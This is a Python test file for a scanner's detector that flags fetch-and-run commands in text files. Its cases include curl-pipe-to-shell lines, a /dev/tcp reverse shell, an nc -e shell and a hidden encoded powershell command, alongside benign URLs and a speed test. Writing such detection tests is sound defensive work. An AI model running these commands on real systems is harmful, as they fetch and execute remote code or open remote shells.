"""SEC002: texts that fetch and run."""

from __future__ import annotations

import time

import pytest

from modelkeep.core import Location, Severity
from modelkeep.formats import MemorySource
from modelkeep.scan import Context
from modelkeep.scan.remote_command import DETECTOR
from samples import budget, found_by


@pytest.mark.parametrize(
    "text",
    [
        "curl http://example.org/i.sh | sh",
        "wget -qO- https://example.org/i | sudo bash",
        'bash -c "$(curl -fsSL https://example.org/i)"',
        "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==",
        "nc 192.0.2.1 4444 -e /bin/sh",
        "get http://192.0.2.7:8080/model.bin now",
    ],
)
def test_a_command_is_worth_knowing(text: str) -> None:
    (finding,) = found_by(DETECTOR, f"Then: {text}\n".encode(), name="README.md")
    assert finding.severity is Severity.INFO


@pytest.mark.parametrize(
    "text",
    [
        "curl https://example.org/model.bin -o model.bin",
        "see https://example.org/ and http://127.0.0.1:8000/docs",
        "http://localhost:8000/x http://192.168.0.1/x http://10.0.0.1/x",
        "version 1.2.3.4 of the shell",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert found_by(DETECTOR, text.encode(), name="README.md") == []


def test_a_long_text_is_quick() -> None:
    for text in ("curl " * 800_000, "http://1" * 500_000, "nc powershell bash -c " * 180_000):
        source = MemorySource(text.encode())
        context = Context(Location("a.txt"), source, "text", None, budget())
        start = time.process_time()
        list(DETECTOR.run(context))
        assert time.process_time() - start < 30  # no hang; figures are for benchmarks
